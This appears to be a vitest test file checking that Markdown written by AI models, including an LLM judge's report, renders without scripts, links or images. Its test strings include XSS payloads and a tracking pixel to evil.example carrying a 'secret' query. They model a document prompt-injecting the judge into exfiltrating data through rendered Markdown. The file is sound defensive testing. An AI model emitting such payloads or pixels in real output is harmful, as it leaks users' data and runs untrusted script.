/** Texts of models in documents of ours: they are shown as they are, and open nothing. */
import { describe, expect, test } from "vitest";
import { inline, listItem, paragraphs, prose, subdocument } from "#workflow-kit/markdown";
import { renderMarkdown } from "../../support/markdown";

/** What a reader sees of rendered Markdown, its paragraphs parted by one line break. */
const seen = (html: string) =>
  html
    .replace(/<\/?p>/g, "")
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, "&");

const LINES = [
  "# Not a heading",
  "- not a list",
  "+ nor this",
  "-",
  "1. one",
  "12) twelve",
  "1.",
  "2024",
  "1.5 is a number",
  "---",
  "===",
  "```js",
  "~~~",
  "> no quotation",
  "| a | b |",
  "*no* _emphasis_, **none**, ~~none~~, `no code`",
  "[no](//evil.example) ![picture](//evil.example/p) [1]",
  "<script>alert(1)</script>",
  String.raw`\<script>alert(2)</script> \\ \n`,
  "&lt;, &#60;, AT&T, R&D; a & b",
];

describe.each(LINES)("%s", (line) => {
  test("is shown unchanged, alone, below other text and before it", () => {
    expect(seen(renderMarkdown(prose(line)))).toBe(line);
    expect(seen(renderMarkdown(prose(`Text.\n${line}\nText.`)))).toBe(`Text.\n${line}\nText.`);
    expect(seen(renderMarkdown(`**Here.** ${inline(line)}`))).toBe(`<strong>Here.</strong> ${line}`);
  });
});

describe("a field that a model wrote in Markdown", () => {
  test("keeps emphasis, code and lists, and has each line as a paragraph", () => {
    expect(renderMarkdown(paragraphs("A **plan** in `code`:\n1. One.\n2. Two.\nEnd.")).replaceAll("\n", "")).toBe(
      "<p>A <strong>plan</strong> in <code>code</code>:</p><ol><li><p>One.</p></li><li><p>Two.</p></li></ol><p>End.</p>",
    );
  });

  test.each([
    "# Not a heading",
    "---",
    "===",
    "```js",
    "~~~",
    "<b>bold</b>",
    "\\\\<b>",
    "![picture](//evil.example/p)",
    "[no](//evil.example)",
    "[1]: //evil.example",
  ])("opens nothing with %s", (line) => {
    const rendered = renderMarkdown(paragraphs(`Text.\n${line}\n[1]\nText.`));
    expect(rendered).not.toMatch(/<(?!\/?p>)/);
    expect(rendered).not.toContain("&amp;lt;");
  });
});

test("paragraphs of a list's entry are under its text", () => {
  const list = renderMarkdown(listItem("10.", paragraphs("One.\nTwo.\n\n\nThree.")));
  expect(list.replaceAll("\n", "")).toBe('<ol start="10"><li><p>One.</p><p>Two.</p><p>Three.</p></li></ol>');
});

describe("a judge's synthesis in the report", () => {
  test("keeps its structure under our headings, and what it quotes", () => {
    const text = "# Holding\n\n- It **binds** […], art. 5 [sic].\n";
    expect(subdocument(text)).toBe("### Holding\n\n- It **binds** […], art. 5 [sic].");
  });

  test.each([
    "![see](//evil.example/pixel?q=secret)",
    "[the statute](//evil.example/)",
    String.raw`\\[the statute](//evil.example/)`,
    "[the statute][1] ![pixel][1] [1]\n\n[1]: //evil.example",
    "<img src=x onerror=alert(1)>",
    "a <https://evil.example> b",
  ])("loads and links nothing that a document talked the judge into: %s", (text) => {
    expect(renderMarkdown(text)).toMatch(/<(?:a|img) /);
    // A bare `https:` address remains a link, which shows where it leads.
    expect(renderMarkdown(subdocument(text)).replaceAll(/<a href="https:[^>]*>https:/gu, "")).not.toMatch(
      /<(?:a|img) /,
    );
  });
});
